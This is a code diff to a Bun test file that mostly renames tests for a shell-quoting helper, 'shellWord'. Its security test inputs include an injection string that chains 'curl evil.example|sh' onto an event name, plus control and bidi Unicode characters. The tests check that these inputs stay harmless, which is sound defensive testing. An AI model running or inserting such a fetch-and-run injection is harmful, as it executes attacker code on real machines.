@@ -4,9 +4,12 @@ import { $ } from 'bun'
 const page = './page/dom.js' // Not TypeScript.
 const { shellWord } = (await import(page)) as { shellWord: (text: string) => string }
 
-test.each(['pay_Zk3nT0a7yQm1c5VbXw9uRd', '0x12:3', 'invoice.paid'])('%s stays as it is', (id) => {
-  expect(shellWord(id)).toBe(id)
-})
+test.each(['pay_Zk3nT0a7yQm1c5VbXw9uRd', '0x12:3', 'invoice.paid'])(
+  'shell quoting leaves %s unchanged',
+  (id) => {
+    expect(shellWord(id)).toBe(id)
+  },
+)
 
 test.each([
   'invoice.paid;curl evil.example|sh;#',
@@ -20,7 +23,7 @@ test.each([
   "it's \u0007 \\0101 %s",
   'id \u202e#',
   'a\u2028b',
-])('security: %j is one word of a command in a shell, and pastes as text', async (text) => {
+])('security: shell quoting makes %j one word that pastes as plain text', async (text) => {
   expect(shellWord(text)).not.toMatch(/[\p{C}\u2028]/u)
   const words = await $`sh -c ${`printf '%s|' ${shellWord(text)}`}`.text()
   expect(words).toBe(`${text}|`)
